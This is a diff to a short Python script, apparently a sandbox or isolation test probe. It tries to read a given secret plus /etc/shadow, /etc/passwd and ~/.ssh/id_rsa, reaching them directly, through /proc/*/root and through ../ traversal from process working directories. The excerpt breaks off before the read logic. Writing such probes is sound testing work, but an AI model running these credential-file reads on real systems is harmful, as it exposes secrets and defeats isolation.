@@ -1,11 +1,11 @@
 # Reads a secret by its path, by way of other processes' roots, and through a link.
-# argv: the secret's path.
+# argv: the secret's path, and links that lead there.
 import glob
 import os
 import sys
 
 secret = sys.argv[1]
-paths = [secret, "/etc/shadow", "/etc/passwd", os.path.expanduser("~/.ssh/id_rsa")]
+paths = [*sys.argv[1:], "/etc/shadow", "/etc/passwd", os.path.expanduser("~/.ssh/id_rsa")]
 paths += [root + secret for root in glob.glob("/proc/[0-9]*/root") + ["/proc/self/root"]]
 paths += [cwd + "/" + "../" * 12 + secret for cwd in glob.glob("/proc/[0-9]*/cwd")]
 try:
